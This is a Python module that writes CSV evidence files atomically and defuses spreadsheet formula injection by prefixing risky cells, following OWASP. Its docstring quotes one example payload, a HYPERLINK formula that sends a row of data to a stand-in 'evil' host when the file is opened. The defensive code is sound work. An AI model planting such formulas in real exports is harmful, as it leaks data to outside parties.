"""Writing evidence files safely: spreadsheet formulas neutralised, whole files or nothing.

A CSV cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
run as a formula by Excel, LibreOffice and Google Sheets (CSV injection: a group name
``=HYPERLINK("http://evil/?"&A1)`` would send a row away when the export is opened).
Following the OWASP rule, such a text cell is written with a leading ``'`` so it is shown
as text. Numbers are written as numbers (``-0.5`` stays a number).
"""

from __future__ import annotations

import csv
import os
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import Any

import pandas as pd

__all__ = ["FORMULA_PREFIXES", "csv_safe", "csv_safe_frame", "write_csv_rows", "write_frame_csv"]

#: Leading characters a spreadsheet treats as the start of a formula (OWASP).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def csv_safe(value: Any) -> Any:
    """``value`` with a ``'`` in front when it is text a spreadsheet would execute."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        try:
            float(value)  # a plain number such as "-0.5" is data, not a formula
        except ValueError:
            return "'" + value
    return value


def csv_safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy whose text cells and column names are :func:`csv_safe`."""
    out = frame.copy()
    for col in out.columns:
        if out[col].dtype == object or pd.api.types.is_string_dtype(out[col]):
            out[col] = out[col].map(csv_safe)
    out.columns = [csv_safe(str(c)) for c in out.columns]
    return out


def _atomic(path: Path) -> Path:
    return path.with_name(f".{path.name}.{os.getpid()}.tmp")


def write_frame_csv(frame: pd.DataFrame, path: str | os.PathLike[str]) -> Path:
    """Write ``frame`` (formulas neutralised) to ``path`` atomically."""
    path = Path(path)
    tmp = _atomic(path)
    csv_safe_frame(frame).to_csv(tmp, index=False)
    os.replace(tmp, path)
    return path


def write_csv_rows(path: str | os.PathLike[str], header: Sequence[str],
                   rows: Iterable[Sequence[Any]]) -> Path:
    """Write a header and rows (formulas neutralised) to ``path`` atomically."""
    path = Path(path)
    tmp = _atomic(path)
    with open(tmp, "w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow([csv_safe(h) for h in header])
        writer.writerows([csv_safe(v) for v in row] for row in rows)
    os.replace(tmp, path)
    return path
